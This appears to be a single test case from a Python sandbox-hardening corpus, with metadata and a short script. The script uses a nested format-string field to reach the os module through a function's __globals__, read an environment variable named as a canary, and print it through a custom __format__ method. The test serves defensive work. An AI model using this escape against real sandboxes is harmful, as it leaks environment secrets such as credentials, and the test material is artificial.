# id: format-nested-spec
# family: format-strings
# kind: information-leak
# invariant: D, E
# origin: found while probing CPython
# technique: a field nested in a format specification is resolved first and handed as text to the guest's own __format__
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import random


class Sink:
    def __format__(self, specification):
        print(specification)
        return ""


"{0:{1.__globals__[_os].environ[PADCELL_CANARY]}}".format(Sink(), random.seed.__func__)
